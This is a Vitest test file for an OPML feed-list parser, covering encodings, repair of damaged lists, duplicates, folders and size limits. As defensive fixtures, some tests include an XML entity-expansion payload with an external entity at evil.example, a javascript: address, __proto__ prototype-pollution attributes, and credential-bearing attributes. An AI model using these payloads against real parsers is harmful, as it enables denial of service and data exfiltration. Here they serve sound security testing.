import { readFileSync } from "node:fs";
import { expect, test } from "vitest";
import { limits } from "../../../lib/limits.ts";
import { parseOpml } from "../../../lib/opml/parse.ts";
import { FeedError } from "../../../lib/problem.ts";

const fixture = (name: string) => parseOpml(readFileSync(new URL(`../../fixtures/opml/${name}.opml`, import.meta.url)));
const bytes = (text: string) => new TextEncoder().encode(text);
const list = (outlines: string) => `<opml version="2.0"><body>${outlines}</body></opml>`;
const feed = (host: string) => `<outline type="rss" text="${host}" xmlUrl="https://${host}.example/feed"/>`;

test("reads a list with raw ampersands, and does not take them for entities", () => {
  const { title, outlines, repaired } = fixture("raw-ampersand");

  expect(title).toBe("News & views");
  expect(outlines.map((outline) => [outline.title, outline.feedUrl])).toEqual([
    ["Rock & Roll", "https://music.example/feed?genre=rock&copy=3&lang=en"],
    ["Café – notes", "https://cafe.example/feed?a=1&b=2"],
  ]);
  expect(repaired).toEqual([]);
});

test("recovers what it can from a list with raw quotes, and says how much", () => {
  const { outlines, repaired } = fixture("raw-quotes");

  expect(outlines.map((outline) => [outline.title, outline.feedUrl, outline.folders])).toEqual([
    ['The "Best" of <a href="https://b.example/">b</a>', "https://best.example/feed", [["Startups"]]],
    ["Second", "https://second.example/feed", [["Startups"]]],
    ["Broken", "https://broken.example/feed", [["Startups"]]],
    ["Third", "https://third.example/feed", [["Startups"]]],
    ["Last", "https://last.example/feed", []],
  ]);
  expect(repaired).toEqual(["The list is damaged or built unusually: recovered 5 of 5 entries."]);
});

test("takes a feed's name from its title, then its text, and leaves it to the feed where there is none", () => {
  const { title, outlines } = fixture("names");

  expect(title).toBeUndefined();
  expect(outlines.map((outline) => outline.title)).toEqual(["Title only", "Text only", "Three", "", "", "Six lines"]);
  expect(outlines.every((outline) => outline.folders[0]?.[0] === "Folder by title")).toBe(true);
  expect(outlines.some((outline) => "siteUrl" in outline)).toBe(false);
});

test("reads attributes in any case, and feedUrl and url as addresses of feeds", () => {
  const { outlines } = fixture("attribute-case");

  expect(outlines).toEqual([
    { title: "One", feedUrl: "https://one.example/feed", siteUrl: "https://one.example/", folders: [] },
    { title: "Two", feedUrl: "https://two.example/feed", folders: [] },
    { title: "Three", feedUrl: "https://three.example/feed", folders: [] },
  ]);
});

test("mends addresses that can be mended, and lists those that nobody can fetch", () => {
  const { outlines, refused } = fixture("addresses");

  expect(outlines.map((outline) => outline.feedUrl)).toEqual([
    "https://www.one.example/rss",
    "https://two.example/rss",
    "http://three.example/rss",
    "https://four.example/rss",
    "http://192.168.1.5:8080/rss",
  ]);
  expect(refused).toEqual([
    { title: "Newsletter", address: "incoming-12345@letters.example" },
    { title: "Script", address: "javascript:alert(1)" },
    { title: "Scraped", address: "https://six.example/news" },
    { title: "Another list", address: "https://seven.example/list.opml" },
    { title: "No address", address: "" },
    { title: "Only a site", address: "https://eight.example/" },
  ]);
});

test("keeps a feed of several folders once, with all its folders", () => {
  const { outlines } = fixture("folders");

  expect(outlines.map((outline) => [outline.title, outline.folders])).toEqual([
    ["Planet", [["Tech"], ["Tech", "Python"]]],
    ["Lifted", [["Boston", "Weather"], ["Tech"]]],
    ["Alone", []],
  ]);
});

test("does not follow the episodes of a podcast, but the feeds that stand in an unclosed one", () => {
  const { outlines, refused } = fixture("episodes");

  expect(outlines.map((outline) => outline.title)).toEqual(["Talk", "Open", "Inside"]);
  expect(refused).toEqual([]);
});

test("passes over junk between outlines, comments, and outlines marked as comments", () => {
  const { outlines, repaired } = fixture("junk-between-tags");

  expect(outlines.map((outline) => outline.title)).toEqual(["One", "Two"]);
  expect(repaired).toEqual(["2 of the outlines are marked as comments and were left out."]);
});

test.each([
  ["UTF-16", Buffer.from(`\u{FEFF}${list('<outline text="für" xmlUrl="https://a.example/"/>')}`, "utf16le")],
  ["windows-1252", Buffer.from(list('<outline text="f\u{FC}r" xmlUrl="https://a.example/"/>'), "latin1")],
  ["UTF-8 with a byte order mark", bytes(`\u{FEFF}${list('<outline text="für" xmlUrl="https://a.example/"/>')}`)],
])("reads a list in %s", (_encoding, received) => {
  expect(parseOpml(received).outlines[0]?.title).toBe("für");
});

test("undoes text that was encoded twice, and says so (gPodder)", () => {
  const { outlines, repaired } = parseOpml(bytes(list('<outline text="fÃ¼r â€œuns" xmlUrl="https://a.example/"/>')));

  expect(outlines[0]?.title).toBe("für “uns");
  expect(repaired).toEqual(["The text was encoded twice; it was decoded once more."]);
});

test("leaves an Ã that is meant where other text shows that nothing was encoded twice", () => {
  const { outlines } = parseOpml(bytes(list('<outline text="Ã¼ and für and 漢" xmlUrl="https://a.example/"/>')));

  expect(outlines[0]?.title).toBe("Ã¼ and für and 漢");
});

test("joins a feed that stands in the list again, counts the repeats, and leaves near-alike addresses apart", () => {
  const same = ["http://A.example/f", "http://a.example/f", "http://a.example/f/", "https://a.example/f"];
  const { outlines, repeats } = parseOpml(bytes(list(same.map((url) => `<outline xmlUrl="${url}"/>`).join(""))));

  expect(outlines.map((outline) => outline.feedUrl)).toEqual([
    "http://a.example/f",
    "http://a.example/f/",
    "https://a.example/f",
  ]);
  expect(repeats).toBe(1);
});

test("keeps what other readers noted of a feed, with the namespace it was noted in (FreshRSS, Miniflux)", () => {
  const noted = `<opml xmlns:frss="https://freshrss.org/opml"><body>
    <outline text="A" xmlUrl="https://a.example/" frss:cssFullContent="article" description="About" category="x"/>
    <outline text="B" xmlUrl="https://b.example/" other:level="3" category="/Tech"/></body></opml>`;

  expect(parseOpml(bytes(noted)).outlines.map(({ outline }) => outline)).toEqual([
    {
      "frss:cssFullContent": "article",
      "xmlns:frss": "https://freshrss.org/opml",
      description: "About",
      category: "x",
    },
    { "other:level": "3", "xmlns:other": "urn:prefix:other" },
  ]);
});

test("keeps a little of what was noted, never a flood of it, and says so", () => {
  const many = Array.from({ length: 40 }, (_, i) => `note${i}="x"`).join(" ");
  const { outlines, repaired } = parseOpml(
    bytes(list(`<outline xmlUrl="https://a.example/" long="${"x".repeat(2_000)}" ${many}/>`)),
  );

  expect(Object.keys(outlines[0]?.outline ?? {})).toHaveLength(16);
  expect(repaired).toEqual(["Notes of another reader that are too long to keep were left out (25)."]);
});

test("leaves out a user name and a password, and says so", () => {
  const { outlines, repaired } = parseOpml(bytes(list('<outline xmlUrl="https://me:secret@a.example/feed"/>')));

  expect(outlines[0]?.feedUrl).toBe("https://a.example/feed");
  expect(repaired).toEqual(["A user name and password in an address were left out: FoldFeed stores none (1)."]);
});

test("reads a long list by its scanner alone as the strict reader would", () => {
  const feeds = Array.from(
    { length: 200 },
    (_, i) => `<outline text="F${i}" xmlUrl="https://f${i}.example/a?b=1&amp;c"/>`,
  );
  const short = parseOpml(bytes(list(`<outline text="Tech">${feeds.join("\r\n")}</outline>`)));
  const long = parseOpml(bytes(list(`<outline text="Tech">${feeds.join(" ".repeat(2_000))}</outline>`)));

  expect(long).toEqual(short);
  expect(long.repaired).toEqual([]);
});

test("keeps what came before the cut of a list that was cut short", () => {
  const { outlines, repaired } = parseOpml(bytes(`<opml><body>${feed("one")}<outline text="Two" xmlUrl="https://tw`));

  expect(outlines.map((outline) => outline.title)).toEqual(["one"]);
  expect(repaired).toEqual([
    "The list is damaged or built unusually: recovered 1 of 2 entries.",
    "The file is cut short; entries behind the cut are missing.",
  ]);
});

test("finds a feed below 10,000 folders, joins the deeper ones, and says so", () => {
  const depth = 10_000;
  const { outlines, repaired } = parseOpml(
    bytes(list('<outline text="f">'.repeat(depth) + feed("deep") + "</outline>".repeat(depth))),
  );

  expect(outlines[0]?.folders[0]).toHaveLength(limits.outlineDepth);
  expect(repaired).toContain("Folders nested deeper than 32 were joined with the one above them.");
});

test("reads as many outlines as it promises and says what it left out", { timeout: 60_000 }, () => {
  const many = Array.from({ length: limits.outlines + 1 }, (_, index) => `<outline xmlUrl="h${index}.example/"/>`);
  const { outlines, repaired } = parseOpml(bytes(list(many.join(""))));

  expect(outlines).toHaveLength(limits.outlines);
  expect(repaired).toEqual(["The list has more than 100,000 outlines; those after them were left out."]);
});

test("never expands entities that a list declares", () => {
  const bomb = `<!DOCTYPE opml [<!ENTITY a "lol"><!ENTITY b "&a;&a;&a;"><!ENTITY % p SYSTEM "https://evil.example/">%p;]>`;
  const { outlines } = parseOpml(bytes(`${bomb}${list('<outline text="&b;" xmlUrl="https://a.example/"/>')}`));

  expect(outlines[0]?.title).toBe("&b;");
});

test("is not led astray by names that mean something to JavaScript", () => {
  const { outlines } = parseOpml(
    bytes(
      list(`<__proto__ polluted="1"/><outline __proto__="x" constructor="y" text="a" xmlUrl="https://a.example"/>`),
    ),
  );

  expect(outlines).toEqual([{ title: "a", feedUrl: "https://a.example/", folders: [] }]);
  expect("polluted" in {}).toBe(false);
});

test.each(["", "<rss version='2.0'><channel/></rss>", "<!doctype html><p>Hello", '{"feeds": []}'])(
  "refuses what is no feed list: %s",
  (text) => {
    expect(() => parseOpml(bytes(text))).toThrow(new FeedError({ kind: "not-opml" }));
  },
);

test("refuses a file beyond the limit without reading it", () => {
  expect(() => parseOpml(new Uint8Array(limits.opmlBytes + 1))).toThrow(
    new FeedError({ kind: "too-large", limit: limits.opmlBytes }),
  );
});

test.each([
  "<",
  "<!--",
  "<outline ",
  '<outline xmlUrl="',
  '"',
  "&",
  " ",
  ' a="x',
  "<![CDATA[",
  "<title",
  "<outline a='>",
])("reads a megabyte of %j in reasonable time", (piece) => {
  const started = performance.now();
  parseOpml(bytes(`<opml><outline ${piece.repeat(1_000_000 / piece.length)}`));

  expect(performance.now() - started).toBeLessThan(15_000);
});

test("what another reader logs in with is not kept, and that is said", () => {
  const { outlines, repaired } = parseOpml(
    bytes(`<opml xmlns:frss="https://freshrss.org/opml"><body><outline text="A" xmlUrl="https://a.example/"
      frss:CURLOPT_COOKIE="session=1" frss:CURLOPT_HTTPHEADER="Authorization: Bearer 2" apiKey="3" authToken="4"
      x:httpPassword="5" author="Ann" frss:cssFullContent="article"/></body></opml>`),
  );

  expect(outlines[0]?.outline).toEqual({
    author: "Ann",
    "frss:cssFullContent": "article",
    "xmlns:frss": "https://freshrss.org/opml",
  });
  expect(repaired).toEqual([
    "What another reader logs in with (cookies, tokens, passwords) was left out: FoldFeed stores none (5).",
  ]);
});
